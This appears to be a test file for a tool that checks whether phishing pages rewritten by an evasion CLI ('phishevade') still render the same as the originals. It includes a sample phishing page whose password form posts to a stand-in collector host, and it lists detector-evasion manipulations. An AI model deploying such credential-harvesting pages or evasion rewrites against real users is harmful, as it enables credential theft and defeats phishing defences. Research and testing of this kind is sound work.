import { execFile } from "node:child_process";
import { mkdir, mkdtemp, readFile, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { beforeAll, describe, expect, it } from "vitest";

import { writeReports, toJUnitXml } from "../src/report.js";
import { runSuite } from "../src/suite.js";
import * as fx from "./fixtures.js";

const run = promisify(execFile);
const fast = { settleMs: 25 };

let root: string;

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), "render-suite-"));
  await mkdir(join(root, "original"));
  await mkdir(join(root, "manipulated"));
  await writeFile(join(root, "original", "form.html"), fx.ORIGINAL_FORM);
  await writeFile(join(root, "manipulated", "form.html"), fx.MANIPULATED_FORM);
  await writeFile(join(root, "original", "divs.html"), fx.ORIGINAL_HIDDEN_DIVS);
  await writeFile(join(root, "manipulated", "divs.html"), fx.MANIPULATED_HIDDEN_DIVS);
  await writeFile(join(root, "original", "broken.html"), fx.ORIGINAL_FORM);
  await writeFile(join(root, "manipulated", "broken.html"), fx.BROKEN_MANIPULATED_FORM);
  await writeFile(join(root, "original", "lonely.html"), fx.ORIGINAL_FORM);
});

describe("runSuite", () => {
  it("pairs files by name, counts outcomes, records unmatched", async () => {
    const report = await runSuite(join(root, "original"), join(root, "manipulated"), fast);
    expect(report.comparisons).toHaveLength(3);
    expect(report.passed).toBe(2);
    expect(report.failed).toBe(1);
    expect(report.unmatched).toHaveLength(1);
    expect(report.unmatched[0]).toContain("lonely.html");
  });

  it("empty directories produce an empty passing report", async () => {
    const empty = await mkdtemp(join(tmpdir(), "render-empty-"));
    await mkdir(join(empty, "a"));
    await mkdir(join(empty, "b"));
    const report = await runSuite(join(empty, "a"), join(empty, "b"), fast);
    expect(report.comparisons).toHaveLength(0);
    expect(report.failed).toBe(0);
  });

  it("emits JSON and JUnit reports with failure evidence", async () => {
    const report = await runSuite(join(root, "original"), join(root, "manipulated"), fast);
    const out = join(root, "out");
    await writeReports(report, out);
    const parsed = JSON.parse(await readFile(join(out, "report.json"), "utf-8"));
    expect(parsed.failed).toBe(1);
    const xml = await readFile(join(out, "junit.xml"), "utf-8");
    expect(xml).toContain('tests="3"');
    expect(xml).toContain('failures="1"');
    expect(xml).toContain("form-0[action]");
    expect(xml).toContain("&quot;http://malicious.io&quot;");
  });

  it("junit escaping survives angle brackets and quotes", () => {
    const xml = toJUnitXml({
      comparisons: [{
        originalPath: "a.html",
        manipulatedPath: 'x<&">.html',
        engine: "dom",
        pixelStatus: "skipped-no-browser",
        pixelDiffRatio: null,
        visibleTextEqual: false,
        visibleTextDiff: 'offset 0: "<b>"',
        restoredAttributes: [],
        attributesEqual: true,
        flags: [],
        passed: false,
      }],
      unmatched: [],
      passed: 0,
      failed: 1,
      flagged: 0,
    });
    expect(xml).toContain("x&lt;&amp;&quot;&gt;.html");
    expect(xml).not.toContain('"<b>"');
  });
});

describe("against the real rewriter CLI", () => {
  async function rewriterAvailable(): Promise<boolean> {
    try {
      await run("phishevade", ["--help"]);
      return true;
    } catch {
      return false;
    }
  }

  it("every single-round rewrite of a rich page passes the checker", async (ctx) => {
    if (!(await rewriterAvailable())) {
      ctx.skip();
      return;
    }
    const work = await mkdtemp(join(tmpdir(), "render-e2e-"));
    await mkdir(join(work, "original"));
    await mkdir(join(work, "manipulated"));
    const url = "http://verify-account.test/login";
    const manipulations = [
      "ObfuscateExtLinks", "ObfuscateJS", "UpdateForm", "UpdateHiddenDivs",
      "UpdateHiddenButtons", "UpdateHiddenInputs", "UpdateTitle",
      "UpdateIFrames", "InjectFakeCopyright", "InjectFakeFavicon",
      "UpdateIntAnchors", "InjectIntElem", "InjectExtElem",
    ];
    const source = join(work, "page.html");
    await writeFile(source, richPhishingPage());
    for (const name of manipulations) {
      const target = `${name}.html`;
      await writeFile(join(work, "original", target), richPhishingPage());
      await run("phishevade", [
        "manipulate", source, "--url", url, "--manipulation", name,
        "--out", join(work, "manipulated", target),
      ]);
    }
    const report = await runSuite(join(work, "original"), join(work, "manipulated"), fast);
    const failures = report.comparisons.filter((c) => !c.passed);
    expect(failures.map((f) => f.manipulatedPath)).toEqual([]);
    expect(report.comparisons).toHaveLength(manipulations.length);
  }, 60000);
});

function richPhishingPage(): string {
  return `<!DOCTYPE html>
<html>
<head>
<title>Sign in</title>
<link rel="stylesheet" href="http://cdn.other.test/site.css">
<script>window.status = "loading";</script>
</head>
<body>
  <h1>Confirm your account</h1>
  <form id="f1" action="http://collector.evil.test/post"><input type="password" name="p"></form>
  <form action="#null"><input type="hidden" name="tok" value="1"></form>
  <a href="http://brand.test/help">Help</a>
  <a href="#">Menu</a>
  <div style="display: none"><p>stash</p></div>
  <div style="visibility: hidden"><p>stash2</p></div>
  <iframe style="display:none" src="/track"></iframe>
  <button disabled>Continue</button>
  <p>Need assistance? Call us.</p>
</body>
</html>
`;
}
